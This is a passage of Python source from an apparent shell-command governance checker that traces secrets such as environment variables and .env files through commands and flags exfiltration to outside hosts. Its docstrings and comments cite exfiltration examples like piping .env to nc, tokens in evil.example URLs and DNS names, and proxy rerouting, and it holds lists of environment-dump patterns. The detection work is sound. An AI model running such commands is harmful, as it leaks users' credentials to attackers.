    if dns and not network and hosts != ["?"]:     # dig NAME: a lookup leaves the machine, and
        for act in an.acts[mark:]:                 # a tainted session's taint rule sees it
            if act.segment == seg and act.primitive == "shell-read":
                act.hosts = list(hosts)
    return hosts, True, connection


def _servers(an: Walk, client: dict[str, Any], fields: list[str | None], raws: list[str],
             cmd: Simple | None) -> list[str]:
    """The servers a database client's command names (``secret_flow.clients``): a host
    option's value (``-h HOST``, ``--host=HOST``, ``-hHOST``), a connection string's host (a URL,
    ``host=HOST``), a host variable set for it; a socket's folder is this machine. A server known
    only at run time (``"$DATABASE_URL"``, ``-h "$DB_HOST"``) is the one the environment
    configures, with its own credentials: it is not counted, so a client naming none is not a
    request that leaves the machine."""
    options = client.get("host_options", ())
    hosts: list[str] = []

    def add(value: str | None, raw: str) -> None:
        if value is None:
            spelled = _named(None, raw) if "://" in raw else "?"
            if spelled == "?" and "://" in raw:   # postgresql://u:$(cat f)@HOST/db: after the @
                after = raw.replace('"', "").replace("'", "").rsplit("@", 1)[-1]
                for stop in "/:?#":
                    after = after.split(stop, 1)[0]
                spelled = after.lower() if "@" in raw and after and not any(
                    c in after for c in "$`(){} ") else "?"
            if spelled != "?":                          # postgresql://u:$P@HOST/db
                hosts.append(spelled)
            return
        value = value.strip().removeprefix("tcp:")
        if not value:
            return
        if value.startswith("/"):
            hosts.append("localhost")
        elif "://" in value:
            hosts.append(_named(value, raw))
        else:
            host = value.rsplit("@", 1)[-1]
            host = host[1:].split("]", 1)[0] if host.startswith("[") else \
                host.split(",", 1)[0].split(":", 1)[0]
            hosts.append(host.lower() or "?")

    k = 1
    while k < len(fields):
        field, raw = fields[k], raws[k] if k < len(raws) else ""
        if field in options and k + 1 < len(fields):
            add(fields[k + 1], raws[k + 1] if k + 1 < len(raws) else "")
            k += 2
            continue
        if field is not None and field[:1] == "-":
            for option in options:
                if option[:2] == "--" and field.startswith(option + "="):
                    add(field[len(option) + 1:], raw)
                elif option[:2] != "--" and field[:2] != "--" and field.startswith(option) \
                        and len(field) > len(option):
                    add(field[len(option):], raw)            # mysql -hdb.example
        elif "://" in (raw if field is None else field):
            add(field, raw)
        elif "host=" in (raw if field is None else field):   # psql "host=HOST dbname=x"
            text = raw.replace('"', "").replace("'", "") if field is None else field
            for part in text.split():
                if part.startswith(("host=", "hostaddr=")):
                    spelled = part.split("=", 1)[1]
                    add(None if "$" in spelled or "`" in spelled else spelled, part)
        k += 1
    for name, raw, given in _given_env(an, base_of(fields), cmd):
        if name in client.get("host_env", ()):
            add(given, raw)
    return list(dict.fromkeys(hosts))


def base_of(fields: list[str | None]) -> str:
    return str(fields[0]).rsplit("/", 1)[-1] if fields else ""


def _given_env(an: Walk, base: str, cmd: Simple | None) -> list[tuple[str, str, str | None]]:
    """The variables set for the program ``base``: (name, source text, value or None), from
    the command's own assignments and from the ``NAME=VALUE`` words before the program's name
    (``env PGPASSWORD=$P psql``, ``timeout 9 env ...``)."""
    if cmd is None:
        return []
    given = [(name, _after(name, word_text(value)), an.expand_one(value.parts))
             for name, value in cmd.assigns]
    for item in cmd.words:
        text = word_text(item)
        if text.rsplit("/", 1)[-1] == base:
            break
        name, eq, rest = text.partition("=")
        if eq and name.isidentifier():
            value = an.expand_one(item.parts)
            given.append((name, rest, None if value is None else value.partition("=")[2]))
    return given


def _after(name: str, raw: str) -> str:
    return raw[len(name) + 1:] if raw.startswith(name + "=") else raw


_SSH_CLIENTS = ("ssh", "autossh", "scp", "sftp", "mosh")


def _send_env(an: Walk, setting: str) -> list[Carried]:
    """``-o SendEnv=NAME ...``: ssh sends those variables of its environment to the server
    (a ``*`` pattern sends every variable it matches)."""
    from fnmatch import fnmatchcase

    from governance import system

    text = setting[2:] if setting.startswith("-o") else setting
    key, _, value = text.strip().replace("=", " ", 1).partition(" ")
    if key.lower() != "sendenv":
        return []
    found: list[Carried] = []
    for name in value.split():
        names = [name] if not any(c in name for c in "*?") else [
            n for n in system.environment() if fnmatchcase(n, name)]
        found.extend((f"${n}", f"SendEnv {name}", "in the variables ssh sends")
                     for n in names if secret_variable(an, n))
    return found


def _sent_env(an: Walk, base: str, cmd: Simple | None, table: dict[str, Any]) -> list[Carried]:
    """The secrets a database client sends its server from the variables it reads
    (``PGPASSWORD=$DB_PASSWORD psql ...``, or exported earlier in the command)."""
    client = table.get("clients", {}).get(base)
    if client is None:
        return []
    found: list[Carried] = []
    assigned = {name: (raw, value) for name, raw, value in _given_env(an, base, cmd)}
    for name in client.get("sends_env", ()):
        if name in assigned:
            found.extend((label, how, f"in ${name}") for label, how
                         in word(an, *assigned[name]))
        elif an.flow is not None and name in an.flow.vars:
            found.extend((label, f"through ${name}", f"in ${name}")
                         for label in an.flow.vars[name])
    return found


def _rerouted(an: Walk, requests: dict[str, Any], argv: Any, cmd: Simple | None) -> list[str]:
    """Where a request really goes besides the hosts its URLs name: a proxy (``curl -x HOST``,
    a ``*_proxy`` variable set in the command), an address given for the host (``--resolve
    HOST:PORT:ADDR``, ``--connect-to``), a config file ("?": read at run time). The bytes reach
    these, so a secret's own host does not make the request its owner's."""
    from governance.shell.endpoint import proxied
    from governance.shell.rules import has_flag

    out: list[str] = []
    for option in requests.get("via") or ():
        if not has_flag(argv.flags, option):
            continue
        values = [v for v, _ in argv.values.get(option, ())] or [None]
        for value in values:
            if value is None:
                out.append("?")
            elif option in ("--resolve", "--connect-to"):
                out.append(value.rsplit(":", 1)[-1].strip("[]") or "?")   # HOST:PORT:ADDR
            else:
                out.append(_named(value if "://" in value else f"http://{value}", value))
    if proxied([name for name, _ in cmd.assigns] if cmd is not None else [], an.vars):
        out.append("?")                       # https_proxy=http://collector.example curl ...
    return out


def _urls(spec: dict[str, Any], argv: Any) -> list[tuple[str | None, str]]:
    """The URLs a request names (value, source text), as ``endpoint.request`` reads them."""
    from governance.shell.endpoint import METHODS, socat_host

    urls: list[tuple[str | None, str]] = []
    for option in spec.get("url_options") or ():
        urls.extend(argv.values.get(option, ()))
    positionals: list[tuple[str | None, str]] = list(argv.positionals)
    layout = spec.get("urls", "all")
    if layout == "httpie":
        if len(positionals) > 1 and positionals[0][0] is not None and \
                str(positionals[0][0]).upper() in METHODS:
            positionals = positionals[1:]
        urls.extend(positionals[:1])
    elif layout == "host":
        urls.extend(positionals[:1])
    elif layout == "socat":
        for value, raw in positionals:
            if value is None or socat_host(value):
                urls.append((None if value is None else socat_host(value), raw))
    else:
        urls.extend(positionals)
    return urls


def _dotted(an: Walk, field: str) -> bool:
    """A bare word that reads as a host name (``docker login evil.example``), not a file."""
    from governance import system

    labels = field.split(".")
    if len(labels) < 2 or not labels[-1].isalpha() or not all(labels) or \
            not all(c.isalnum() or c in ".-" for c in field):
        return False
    folder = an.folder()
    return folder is None or not system.exists(system.join(folder, field))


def _named(value: str | None, raw: str) -> str:
    """The host a URL names; when it is only known at run time, the host its text spells
    around the expansions (``https://$TOKEN@evil.example/``), else "?"."""
    from governance.shell.endpoint import host_of

    host = host_of(value) if value is not None else host_of(raw.replace('"', "").replace("'", ""))
    return host if host else "?"


def _host(text: str, field: str | None, dns: bool) -> str | None:
    """The host one argument of a network program names: a URL's, ``user@host:path``'s, a DNS
    name (with an expansion in front, the literal domain after it)."""

    if "://" in text:
        return _named(field, text)
    if field is not None and ":" in field and "/" not in field.split(":", 1)[0]:
        return field.split(":", 1)[0].rsplit("@", 1)[-1].lower() or "?"   # scp f host:path
    if field is not None and "@" in field and "." in field.rsplit("@", 1)[1]:
        return field.rsplit("@", 1)[1].lower()
    if dns:
        if field is not None:
            return field.lower().rstrip(".") if "." in field else None
        tail = text.rsplit(")", 1)[-1].rsplit("}", 1)[-1].rsplit("`", 1)[-1].strip("\"'")
        if "$" in tail:                         # $TOKEN.evil.example: the name after it
            tail = tail.rsplit("$", 1)[1].lstrip("{")
            tail = tail[next((k for k, c in enumerate(tail) if not (c.isalnum() or c == "_")),
                             len(tail)):]
        return tail.strip(".").lower() if "." in tail and "$" not in tail else "?"
    return None


def _shaped(an: Walk, raws: list[str]) -> list[Carried]:
    """Secret-shaped literals in a network command's words (the ledger's redaction screen, which
    the path guard applies: ``shaped``)."""
    kinds = getattr(an.check, "shaped", None)
    if kinds is None:
        return []
    found: list[Carried] = []
    for raw in raws[1:]:
        for kind in kinds(_literal(raw)):
            found.append((kind, "written in the command", "in the arguments"))
    return found


def _placeholder(raw: str) -> str | None:
    """A path whose expansions are known only at run time, each read as one folder name
    (``"$DIR/.env"``, ``/proc/$$/environ``): a secret file's name still shows."""
    text = _literal(raw.replace('"', "").replace("'", ""), "x")
    return paths(text) if text and " " not in text else None


def _literal(raw: str, stand_in: str = " ") -> str:
    """A word's text without its expansions (``k=${TOKEN:-none}`` is ``k= ``)."""
    if "$" not in raw and "`" not in raw:
        return raw
    out: list[str] = []
    k, n = 0, len(raw)
    while k < n:
        c = raw[k]
        if c in "$`":
            close = {"{": "}", "(": ")"}.get(raw[k + 1:k + 2]) if c == "$" else "`"
            if close is not None:
                end = raw.find(close, k + 2 if c == "$" else k + 1)
                k = n if end < 0 else end + 1
            else:
                k += 1
                while k < n and (raw[k].isalnum() or raw[k] == "_"):
                    k += 1
            out.append(stand_in)
            continue
        out.append(c)
        k += 1
    return "".join(out)


def _copies_added(an: Walk, args: list[str | None]) -> list[str]:
    """The secrets of the files this command filled with them (``cp .env docs/env.txt``) that
    ``git add ARGS`` stages: a file named, or one in a folder named (``git add docs``), or any
    with ``-A``, ``--all``, ``.`` or ``:/``."""
    state = an.flow
    if state is None or not state.files:
        return []
    named = [a for a in args if a is not None and not a.startswith("-")]
    every = any(a in ("-A", "--all", ".", ":/", "*") for a in args if a is not None)
    wheres = [an.where(a).rstrip("/") for a in named]
    found: list[str] = []
    for where, labels in state.files.items():
        if every or any(w == "." or where == w or where.startswith(w + "/") for w in wheres):
            found.extend(labels)
    return found


def _exfiltration(an: Walk, base: str, seg: str, carried: list[Carried],
                  hosts: list[str]) -> None:
    """An ``exfiltration`` act for the secrets a request carries that are not its hosts' own,
    unless every host is this machine."""
    if not carried:
        return
    from governance.shell.endpoint import is_local

    local = an.shell.get("local_hosts", ())
    if all(h != "?" and is_local(h, local) for h in hosts):
        return                                    # loopback: local-request says it already
    owns = getattr(an.check, "owns", None)
    out: list[Carried] = []
    for label, how, where in carried:
        name = label[1:] if label[:1] == "$" else label
        if owns is not None and where != CONTENT and \
                all(h != "?" and owns(name, h) for h in hosts):
            continue      # its own host, to sign in with (not content the host keeps)
        if not any(c[0] == label for c in out):
            out.append((label, how, where))
    if not out:
        return
    target = ", ".join(dict.fromkeys(h if h != "?" else "a host known only at run time"
                                     for h in hosts))
    parts = [f"{label} ({how}) to {target} {where}" for label, how, where in out[:3]]
    an.add("exfiltration", seg, _named_only(an, f"{base} carries " + "; ".join(parts) +
                                            (" and more" if len(out) > 3 else "")))
    act = an.seen[("exfiltration", seg)]
    act.secrets = list(dict.fromkeys([*(act.secrets or ()), *(c[0] for c in out)]))
    act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))


def _reading(an: Walk, base: str, seg: str, cmd: Simple | None, named: list[Carried],
             carried: list[Carried], fed: list[Carried], dumped: list[str],
             metadata: bool) -> None:
    """``secret-read`` for a program that shows a secret file, the environment, or a secret
    variable it is given."""
    if named:
        files = ", ".join(dict.fromkeys(f"{c[1].rsplit(' ', 1)[-1]}" for c in named))
        labels = list(dict.fromkeys(c[0] for c in named))
        _read(an, seg, f"{base} reads {files}, which holds credentials (secrets.paths: "
                       f"{', '.join(labels)})", labels)
    shown = [c for c in [*carried, *fed] if c[1] == "environment variable" or
             c[1].startswith(("the file ", "through $"))]
    # echo $TOKEN, cat /tmp/x written with it, echo $DB_PASSWORD after source .env
    secret_vars = [c[0] for c in shown]
    if dumped or (secret_vars and base not in _QUIET and base not in _DECLARERS and
                  base in _READING_PROGRAMS and not (cmd is not None and _redirected(an, cmd))):
        labels = list(dict.fromkeys([*dumped, *secret_vars]))
        what = "the environment, where secret variables live" if "the environment" in labels \
            else ", ".join(labels)
        reason = f"{base} prints {what}"
        _read(an, seg, reason, labels)
        if cmd is not None and not _redirected(an, cmd):
            flow(an).pending[id(cmd)] = (seg, reason)


def compound(an: Walk, value: str | None, raw: str, seg: str, cmd: Simple) -> None:
    """``while read l; do ...; done < .env``: the block's input is a secret file. The commands
    inside were read before the redirection: each request among them carries it."""
    label = secret_file(an, home(value, raw))
    if label is None:
        return
    _read(an, seg, f"the commands read {raw}, which holds credentials (secrets.paths: "
                   f"{label})", [label])
    flow(an).reads.append((seg, [label]))            # "$(< .env)" is its content
    start = _block(cmd.text, cmd.start)
    if start is None:
        return
    inside = cmd.text[start:cmd.start]
    for act in list(an.acts):
        if act.primitive in NETWORK and act.segment and act.segment in inside:
            _exfiltration(an, act.segment.split()[0], act.segment,
                          [(label, f"the secret file {raw}", "on the block's input")],
                          act.hosts or ["?"])


def _block(text: str, end: int) -> int | None:
    """Where the block (``{ ...; }``, ``( ... )``, a ``while``/``until``/``for`` loop) that ends
    just before ``end`` starts, when its text can be read back; else None."""
    k = len(text[:end].rstrip())
    closer = text[k - 1:k] if k else ""
    if closer in ("}", ")"):
        opener, depth = {"}": "{", ")": "("}[closer], 0
        for j in range(k - 1, -1, -1):
            if text[j] == closer:
                depth += 1
            elif text[j] == opener:
                depth -= 1
                if depth == 0:
                    return j
        return None
    if text[:k].endswith("done"):
        starts = [text.rfind(w, 0, k) for w in ("while ", "until ", "for ")]
        found = max(starts)
        return found if found >= 0 else None
    return None


def piped_block(an: Walk, cmd: Simple) -> list[tuple[str, str]]:
    """``{ cat .env; } | nc HOST``: what the block a command reads from through a pipe read."""
    state = an.flow
    if state is None:
        return []
    bar = cmd.text.rfind("|", 0, cmd.start)
    start = _block(cmd.text, bar) if bar > 0 else None
    if start is None:
        return []
    inside = cmd.text[start:bar]
    return [(label, f"the output of `{text}`") for text, labels in state.reads
            if text and text in inside for label in labels]


def _named_only(an: Walk, reason: str) -> str:
    """A reason with any secret-shaped value in the command text it quotes masked: secrets
    are named, never shown (the path guard's ``redact``)."""
    redact = getattr(an.check, "redact", None)
    return reason if redact is None else str(redact(reason))


def _read(an: Walk, seg: str, reason: str, labels: list[str]) -> None:
    reason = _named_only(an, reason)
    an.add("secret-read", seg, reason)
    act = an.seen[("secret-read", seg)]
    act.secrets = list(dict.fromkeys([*(act.secrets or ()), *labels]))


def _hide(an: Walk, seg: str, reason: str) -> None:
    """A print that reaches a program that shows nothing of it, or only lines without secrets."""
    act = an.seen.get(("secret-read", seg))
    if act is not None and act.reason.startswith(reason):
        del an.seen[("secret-read", seg)]
        an.acts.remove(act)


def _filtered(an: Walk, base: str, cmd: Simple | None) -> bool:
    """``env | grep PATH``: a filter keeping the lines a plain word matches, one that names no
    secret variable (a name may hold it: ``PATH``, not ``KEY``)."""
    if base not in _FILTERS or cmd is None:
        return False
    fields, _globs, _raws = an.expand_words(cmd.words)
    if any(f is None or f in ("-v", "--invert-match", "-f", "-e") for f in fields[1:]):
        return False
    words = [f for f in fields[1:] if f is not None and f[:1] != "-"]
    if len(words) != 1:
        return False
    pattern = words[0].strip("^$")
    names = getattr(an.check, "names_secret", None)
    return bool(pattern) and all(c.isalnum() or c == "_" for c in pattern) and \
        names is not None and not names(pattern)


def _redirected(an: Walk, cmd: Simple) -> bool:
    """Whether the command's output goes to a file, not to the agent."""

    return any(r.op in (">", ">>", ">|", "&>", "&>>") and r.target is not None and
               word_text(r.target) not in ("/dev/stdout", "/dev/stderr", "/dev/tty")
               for r in cmd.redirs)


# programs that load a file into the shell's variables without showing it (source .env): what
# shows or sends those variables later is the act (``Flow.sourced``)
_LOADERS = frozenset(("source", "."))


def _environment_file(an: Walk, how: str) -> bool:
    """Whether the secret file ``how`` names (``the secret file PATH``) holds only variable
    assignments (``NAME=VALUE``, ``export NAME=VALUE``, ``set -a``, comments): sourcing it loads
    them and prints nothing. Any other line would run, and its errors would show it."""
    from governance.shell.source import path_of, read

    prefix = "the secret file "
    path = path_of(an, how[len(prefix):]) if how.startswith(prefix) else None
    if path is None:
        return False
    kind, text = read(an, path)
    if kind != "text":
        return False
    for line in text.splitlines():
        line = line.strip()
        if not line or line[0] == "#" or line in ("set -a", "set +a", "set -o allexport",
                                                  "set +o allexport"):
            continue
        if line.startswith("export "):
            line = line[len("export "):].lstrip()
        name, equals, value = line.partition("=")
        if not equals or not name.isidentifier() or value.count('"') % 2 or \
                value.count("'") % 2:
            return False            # a command, or a quoted value over several lines
    return True


# programs that show what they read or are given (besides the read_only list)
_READING_PROGRAMS = frozenset((
    "cat", "tac", "head", "tail", "less", "more", "bat", "grep", "egrep", "fgrep", "rg", "ag",
    "ack", "sed", "awk", "gawk", "mawk", "cut", "tr", "sort", "uniq", "base64", "base32", "xxd",
    "od", "hexdump", "strings", "tee", "echo", "printf", "print", "rev", "nl", "column", "fold",
    "paste", "jq", "yq", "diff", "cmp", "comm", "iconv", "xargs", "printenv", "env", "set",
    "export", "declare", "typeset", "compgen", "readonly", "zcat", "gzip", "bzip2", "xz",
    "openssl", "gpg", "tar", "zip", "7z", "cp", "rsync", "dd", "vim", "vi", "nano", "emacs",
    "code", "view", "source", ".", "python", "python3", "node", "ruby", "perl", "php"))


def _remember(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
              cmd: Simple | None, labels: list[str], named: list[Carried]) -> None:
    """What later commands may read of this one: its output, the files and variables it
    wrote, a git remote's URL."""
    state = flow(an)
    state.segs[seg] = list(dict.fromkeys([*state.segs.get(seg, ()), *labels]))
    if cmd is not None:
        state.cmds[id(cmd)] = labels
        state.reads.append((cmd.segment, labels))
        for redir in cmd.redirs:
            if redir.op in (">", ">>", ">|", "&>", "&>>") and redir.target is not None:
                value = an.expand_one(redir.target.parts)
                if value is not None:
                    state.files[an.where(value)] = labels
        if base in ("source", ".") and named:
            state.sourced.extend(c[0] for c in named if c[0] not in state.sourced)
        if base == "read" or base in ("mapfile", "readarray"):
            for field in fields[1:]:
                if field is not None and field[:1] != "-" and field.isidentifier():
                    state.vars[field] = labels
    if named:             # tar czf /tmp/s.tgz ~/.ssh: the files it writes hold what it read
        for act in an.acts:
            if act.segment == seg and act.primitive == "file-write":
                for target in act.targets or ():
                    if target != "?":
                        state.files[an.where(target)] = labels
    positional = [f for f in fields[1:] if f is not None and f[:1] != "-"]
    if base == "tee":
        for path in positional:
            state.files[an.where(path)] = labels
    elif base in _COPIERS and len(positional) > 1:
        state.files[an.where(positional[-1])] = labels
    elif base in _DECLARERS:
        for field, raw in zip(fields[1:], raws[1:], strict=False):
            name = (raw if field is None else field).split("=", 1)[0]
            if "=" in raw and name.isidentifier() and word(an, raw.split("=", 1)[1]):
                state.vars[name] = [c[0] for c in word(an, raw.split("=", 1)[1])]
    elif base == "git" and len(fields) > 4 and fields[1] == "remote" and \
            fields[2] in ("add", "set-url") and fields[3] is not None:
        state.remotes[str(fields[3])] = (labels, _named(fields[4], raws[4]))


def argument_file(an: Walk, fields: list[str | None], cmd: Simple) -> None:
    """``xargs -a FILE CMD``, ``parallel CMD :::: FILE``: CMD's arguments are the lines of
    FILE."""
    for k, field in enumerate(fields[1:], 1):
        if field is None:
            continue
        path = fields[k + 1] if field in ("-a", "--arg-file", "::::", "::::+") and \
            k + 1 < len(fields) else \
            field.split("=", 1)[1] if field.startswith("--arg-file=") else \
            field[2:] if field.startswith("-a") and len(field) > 2 else None
        label = secret_file(an, path)
        if label is not None:
            flow(an).args[id(cmd)] = [(label, str(path))]


def loop(an: Walk, name: str) -> None:
    """``for NAME in WORDS``: NAME holds the secret files among the values it takes, and what
    the words' substitutions and variables carry."""
    from governance.shell.loops import UNKNOWN

    found: list[str] = []
    for value in an.loops.get(name, ()):
        if value.startswith(UNKNOWN):
            found.extend(label for label, _how in word(an, value[len(UNKNOWN):]))
        else:
            label = secret_file(an, value)
            if label is not None:
                found.append(label)
    if found:
        flow(an).vars[name] = list(dict.fromkeys(found))
    elif an.flow is not None:
        an.flow.vars.pop(name, None)


def alias(an: Walk, name: str, target: str) -> None:
    """``declare -n NAME=TARGET``: NAME expands to TARGET's value, and holds its secrets."""
    state = an.flow
    if state is not None and target in state.vars:
        state.vars[name] = list(state.vars[target])
    elif secret_variable(an, target):
        flow(an).vars[name] = [f"${target}"]
    elif state is not None:
        state.vars.pop(name, None)


# the positional parameters, whose secrets a call or `sh -c TEXT NAME ARGS` gives
POSITIONAL = ("@", "*", *(str(k) for k in range(10)))


def arguments(an: Walk, raws: list[str]) -> None:
    """``$0`` ``$1`` ... given the words ``raws`` (``sh -c TEXT NAME ARGS``, ``f ARGS``, ``set --
    ARGS``): each holds the secrets its word carries, ``"$@"`` and ``$*`` all of them."""
    found = [[label for label, _how in word(an, raw)] for raw in raws]
    state = an.flow
    if state is not None:
        for key in POSITIONAL:
            state.vars.pop(key, None)
    every: list[str] = []
    for k, labels in enumerate(found[:10]):
        if labels:
            flow(an).vars[str(k)] = labels
            every += labels if k else []
    every += [label for labels in found[10:] for label in labels]
    if every:
        flow(an).vars["@"] = flow(an).vars["*"] = list(dict.fromkeys(every))


def assign(an: Walk, name: str, raw: str) -> None:
    """``NAME=VALUE``: NAME holds the secrets VALUE carries (or, in a secret file the command
    sources, whatever it is given)."""
    found = [label for label, _how in word(an, raw)]
    if an.origin:
        label = secret_file(an, an.origin)
        if label is not None:
            found.append(label)
    state = an.flow
    if found:
        flow(an).vars[name] = list(dict.fromkeys(found))
    elif state is not None:
        state.vars.pop(name, None)


# --- inline code ---------------------------------------------------------------------------------
_ENV_DUMPS = {"python": ("os.environ)", "os.environ.items", "os.environ.copy", "os.environ.keys",
                         "os.environ.values", "dict(os.environ", "environ)", "environ.items"),
              "other": ("process.env)", "process.env,", "process.env;", "process.env ",
                        "ENV.to_h", "ENV.each", "ENV.inspect", "ENV.to_a", "%ENV", "keys %ENV",
                        "Deno.env.toObject", "os.Environ()", "getenv()", "ENV)", "$_ENV",
                        "getenv();")}
_ENV_ACCESS = ("environ", "getenv", "process.env", "ENV[", "ENV.fetch", "$ENV{", "ENVIRON[",
               "Deno.env.get", "os.Getenv", "System.getenv", "Env.get")
_PS_ENV_DUMPS = ("gci env:", "get-childitem env:", "dir env:", "ls env:", "get-item env:",
                 "getenvironmentvariables(")
_PRINTS = ("print", "console.log", "puts", "echo", "write", "say", "dump", "log(", "p ", "pp ")


def _standalone(code: str, marker: str) -> bool:
    """Whether ``marker`` occurs in ``code`` not as the tail of a longer name (``ENV)`` is
    Ruby's environment, ``NODE_ENV)`` is not)."""
    at = code.find(marker)
    while at >= 0:
        before = code[at - 1:at]
        if not (marker[:1].isalnum() or marker[:1] == "_") or not (before.isalnum() or
                                                                  before in ("_", ".")):
            return True
        at = code.find(marker, at + 1)
    return False


def inline(an: Walk, language: str, code: str, seg: str) -> None:
    """Inline code (``python -c``, ``node -e``, an awk program): the environment it dumps, the
    secret variables and files it reads, and whether its requests carry them."""
    labels: list[str] = []
    dumps = _ENV_DUMPS["python" if language == "python" else "other"]
    if language == "awk":
        dumps = ("in ENVIRON",)
    texts = _strings(code)
    if language == "powershell":       # case-insensitive; `.env` and URLs need no quotes
        lowered = code.lower()
        dump = any(d in lowered for d in _PS_ENV_DUMPS)
        access = "$env:" in lowered or "environmentvariable" in lowered
        texts += [w for w in code.replace(",", " ").replace("(", " ").replace(")", " ").split()
                  if w[:1] not in "-$@" and len(w) < 300]
    else:
        dump = any(_standalone(code, d) for d in dumps)
        access = any(a in code for a in _ENV_ACCESS)
    if dump:
        labels.append("the environment")
    if access:
        for name in _identifiers(code):
            if secret_variable(an, name) and f"${name}" not in labels:
                labels.append(f"${name}")
    for text in texts:
        label = secret_file(an, text)
        if label is not None and label not in labels:
            labels.append(label)
    if not labels:
        return
    state = flow(an)                               # perl -e 'open F, ".env" ...' | nc host
    state.segs[seg] = list(dict.fromkeys([*state.segs.get(seg, ()), *labels]))
    network = [an.seen[(p, seg)] for p in NETWORK if (p, seg) in an.seen]
    if network:
        from governance.shell.endpoint import host_of

        hosts = [h for h in (host_of(t) for t in texts if "://" in t) if h] or ["?"]
        for act in network:
            act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))
        how = {label: ("environment variable" if label[:1] == "$" else
                       "the environment" if label == "the environment" else "secret file")
               for label in labels}
        _exfiltration(an, language, seg, [(lb, how[lb], "in its requests") for lb in labels],
                      hosts)
        return
    if dump or any(p in code for p in _PRINTS) or any(lb[:1] != "$" for lb in labels):
        what = ", ".join(labels)
        _read(an, seg, f"the {language} code reads {what}", labels)


def _identifiers(code: str) -> list[str]:
    out: list[str] = []
    current: list[str] = []
    for c in code + " ":
        if c.isalnum() or c == "_":
            current.append(c)
            continue
        if len(current) > 2 and any(ch.isupper() for ch in current):
            word_ = "".join(current)
            if word_ not in out:
                out.append(word_)
        current = []
    return out


def _strings(code: str) -> list[str]:
    """The quoted literals in code (either quote), as written."""
    out: list[str] = []
    k = 0
    while k < len(code):
        c = code[k]
        if c in "'\"":
            end = code.find(c, k + 1)
            if end < 0:
                break
            text = code[k + 1:end]
            if text and " " not in text and len(text) < 300:
                out.append(text)
            k = end + 1
            continue
        k += 1
    return out
